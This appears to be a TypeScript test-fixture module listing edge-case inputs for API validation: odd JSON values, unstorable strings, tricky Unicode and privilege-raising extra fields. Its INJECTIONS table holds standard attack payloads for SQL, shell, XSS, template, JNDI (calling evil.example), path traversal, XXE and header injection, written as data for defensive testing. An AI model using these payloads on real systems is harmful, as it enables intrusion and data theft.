/** A value as it stands in a body, by a name that says what it is. */
export type Named = Record<string, string>

const repeated = (text: string, times: number) => text.repeat(times)

/** JSON values by their type; also what no `JSON.stringify` would write. */
export const JSON_VALUES: Record<string, Named> = {
  null: { null: 'null' },
  number: {
    zero: '0',
    'minus zero': '-0',
    one: '1',
    'minus one': '-1',
    'a fraction': '1.5',
    'more than a double is exact for': '9007199254740993',
    'forty digits': repeated('1234567890', 4),
    'more than a double': '1e309',
    'less than a double': '1e-400',
  },
  boolean: { true: 'true', false: 'false' },
  array: {
    'no items': '[]',
    'a list of null': '[null]',
    'a list of text': '["text"]',
    'a list of lists': '[[["text"]]]',
    'a list of objects': '[{"a":1}]',
    '20,000 items': `[${repeated('0,', 20_000)}0]`,
  },
  object: {
    'an empty object': '{}',
    'an object': '{"a":{"b":{"c":1}}}',
    'an operator': '{"$ne":null}',
    'an operator with text': '{"$gt":""}',
    'an operator with code': '{"$where":"sleep(1000)"}',
    'something like a text': '{"length":20,"0":"a"}',
    'a method of its own': '{"toString":1,"valueOf":1,"toJSON":1}',
  },
  string: {
    'an empty text': '""',
    'text of a boolean': '"true"',
    'text of a number': '"1"',
    'text of null': '"null"',
    'some text': '"text"',
  },
}

/** Text that Postgres cannot store, or that is no text: in JSON's own spelling. */
export const UNSTORABLE: Named = {
  NUL: '"\\u0000"',
  'NUL inside': '"a\\u0000b"',
  'a first half of a pair': '"\\ud83d"',
  'a second half of a pair': '"\\ude00"',
  'halves in the wrong order': '"\\ude00\\ud83d"',
}

/** Text that harms where it is read as something else. */
export const INJECTIONS: Named = {
  'SQL, always true': "' OR '1'='1",
  'SQL, another statement': "x'; DROP TABLE users; --",
  'SQL, a union': "' UNION SELECT password FROM users --",
  'SQL, asleep': '1; SELECT pg_sleep(10)--',
  'SQL, a backslash': "\\'; --",
  'NoSQL, an operator': '{"$ne": null}',
  'a shell': '; cat /etc/passwd | sh',
  'a shell inside': '$(sleep 10)`sleep 10`',
  'a script': '<script>alert(1)</script>',
  'an image': '"><img src=x onerror=alert(1)>',
  'an address of a script': 'javascript:alert(1)',
  'a template': '{{7*7}}<%= 7*7 %>#{7*7}[[7*7]]',
  'a logger': `$\{jndi:ldap://evil.example/a}`,
  'a path': '../../../../etc/passwd',
  'a path of Windows': '..\\..\\windows\\win.ini',
  'an encoded path': '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  'a file': 'file:///etc/passwd',
  'another line': 'a\r\nSet-Cookie: tesp=evil\r\n\r\n<html>',
  'another mail': 'a@test.example\nBcc: all@test.example',
  LDAP: '*)(uid=*))(|(uid=*',
  XML: '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
  'a format': '%s%s%s%n%x%d',
  'a formula': '=HYPERLINK("http://evil.example")',
  'a prototype': '__proto__',
  'a constructor': 'constructor',
  'a method': 'toString',
  'no value': 'undefined',
  'no number': 'NaN',
}

/** Text of all scripts and of none. */
export const UNICODE: Named = {
  'right to left': 'مرحبا שלום',
  'an override of direction': '\u202Egnp.exe\u202C',
  'no width': 'a\u200B\u200C\u200D\u2060b',
  'combining marks': `a${repeated('\u0301', 60)}`,
  'an emoji of many': '👩‍👩‍👧‍👦🏴‍☠️',
  'four bytes': '𝒯𝔢𝓼𝕥𠜎',
  'a byte order mark': '\uFEFFtext',
  'full width': 'ＡＤＭＩＮ＠ＴＥＳＴ',
  'letters that look the same': 'аdmіn',
  'case that is not one to one': 'ẞßİıŉ',
  'control characters': '\u0001\u0007\u001B[31m\u007F\u0085',
  'ends of lines': 'a\u2028b\u2029c',
  'no character': '\uFFFE\uFFFF\u{1FFFF}',
  blanks: ' \t\u00A0\u3000 ',
}

/** Fields that nobody takes from a client, by what they are after. */
export const EXTRA_FIELDS: Record<string, Named> = {
  'what others decide': {
    id: '1',
    userId: '1',
    memberId: '1',
    isAdmin: 'true',
    role: '"admin"',
    balance: '"1000000"',
    pendingRewards: '"1000000"',
    teamSize: '1000',
    kycStatus: '"verified"',
    authEpoch: '0',
  },
  'a constructor': { constructor: '{"prototype":{"isAdmin":true}}' },
  'methods of every object': {
    toString: 'null',
    valueOf: '{"a":1}',
    hasOwnProperty: '1',
    __defineGetter__: '"a"',
    length: '1e9',
  },
  'odd names': {
    $where: '"1"',
    '': '1',
    [repeated('a', 10_000)]: '1',
    'a.b[c]': '{"d":[]}',
    ' identifier': '"a"',
    '\u202eemail': '"a"',
  },
}
